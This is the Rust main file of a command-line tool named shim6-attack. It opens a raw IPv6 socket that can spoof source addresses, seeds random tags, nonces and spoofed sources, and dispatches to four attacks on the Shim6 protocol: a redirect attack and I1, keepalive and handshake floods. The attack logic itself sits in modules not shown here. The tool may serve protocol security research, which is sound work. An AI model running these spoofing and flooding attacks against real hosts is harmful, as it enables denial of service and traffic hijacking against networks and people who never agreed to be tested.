//! shim6-attack: see the crate documentation (src/lib.rs) and `--help`.

use std::process::ExitCode;
use std::time::{SystemTime, UNIX_EPOCH};

use clap::Parser;
use shim6_attack::attacks::{self, FloodKind};
use shim6_attack::cli::{Cli, Command};
use shim6_attack::spoofing_socket::SpoofingSocket;
use shim6_proto::random::SeededRandom;

/// Tags, nonces and spoofed sources need not be unpredictable here, only
/// different from one run to the next.
fn seed() -> u64 {
    let nanos = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_nanos())
        .unwrap_or_default();
    (nanos as u64) ^ (u64::from(std::process::id()) << 32)
}

fn main() -> ExitCode {
    let cli = Cli::parse();
    let mut socket = match SpoofingSocket::open() {
        Ok(socket) => socket,
        Err(error) => {
            eprintln!("shim6-attack: raw socket for protocol 140 with IPV6_HDRINCL: {error}");
            return ExitCode::FAILURE;
        }
    };
    let mut rng = SeededRandom::new(seed());
    let tally = match &cli.command {
        Command::Redirect(args) => attacks::redirect(&mut socket, args, &mut rng),
        Command::FloodI1(args) => attacks::flood(&mut socket, args, FloodKind::I1, &mut rng),
        Command::FloodKeepalive(args) => {
            attacks::flood(&mut socket, args, FloodKind::KeepaliveUnknownTag, &mut rng)
        }
        Command::FloodHandshake(args) => attacks::flood_handshake(&mut socket, args, &mut rng),
    };
    println!("{}", tally.to_json_line());
    ExitCode::SUCCESS
}
